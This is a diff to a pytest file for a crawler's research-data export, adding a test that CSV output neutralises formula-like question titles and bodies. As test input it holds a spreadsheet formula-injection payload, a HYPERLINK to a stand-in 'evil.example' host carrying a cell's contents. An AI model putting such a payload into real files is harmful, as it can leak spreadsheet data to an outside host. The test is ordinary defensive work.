@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import gc
 import hashlib
 import json
@@ -14,7 +15,8 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner, Result
-from research_data import Built, build_archive
+from research_data import Built, _capture, build_archive, make_record
+from research_warc import append_response
 
 from crawler.cli.research import export
 from storage.research.export_rows import QUESTION_SCHEMA, iter_question_rows
@@ -188,3 +190,42 @@ def test_every_format_writes_a_manifest_with_the_sha256(
     assert run_export(built, out, "--format", fmt).exit_code == 0
     files = manifest_of(out)["files"]
     assert files[0]["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
+
+
+def ingest_record(built: Built, record: object, n: int) -> None:
+    """Archive one more record (its own WARC record and capture), as a crawl would."""
+    warc = built.data_dir / "warc" / "extra.warc.gz"
+    warc.parent.mkdir(parents=True, exist_ok=True)
+    offset, length = append_response(warc, record.url, record.to_json().encode())
+    run_id = built.archive.start_run(site="doctorqna", arguments={"test": True})
+    built.archive.ingest(record, _capture(record.url, warc, offset, length, run_id, n))
+    built.archive.finish_run(run_id, stats={}, outcome="finished")
+
+
+@pytest.mark.parametrize("deidentify", [False, True], ids=["plain", "deidentified"])
+def test_csv_export_neutralises_a_formula_title(
+    fresh: Built, tmp_path: Path, deidentify: bool
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    record = dataclasses.replace(
+        make_record(50),
+        url="https://doctorqna.com/en/article/299999",
+        canonical_url="https://doctorqna.com/en/article/299999",
+        external_id="299999",
+        question_title=formula,
+        question_body="@SUM(1+1) call 0912-345-678",
+    )
+    ingest_record(fresh, record, 50)
+    out = tmp_path / "q.csv"
+    extra = ["--deidentify"] if deidentify else []
+    result = run_export(fresh, out, "--format", "csv", *extra)
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as fh:
+        row = next(r for r in csv.DictReader(fh) if r["external_id"] == "299999")
+    assert row["question_title"] == "'" + formula
+    expected_body = "@SUM(1+1) call [PHONE]" if deidentify else "@SUM(1+1) call 0912-345-678"
+    assert row["question_body"] == "'" + expected_body
+    jsonl = tmp_path / "q.jsonl"
+    assert run_export(fresh, jsonl, "--format", "jsonl", *extra).exit_code == 0
+    rows = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
+    assert next(r for r in rows if r["external_id"] == "299999")["question_title"] == formula
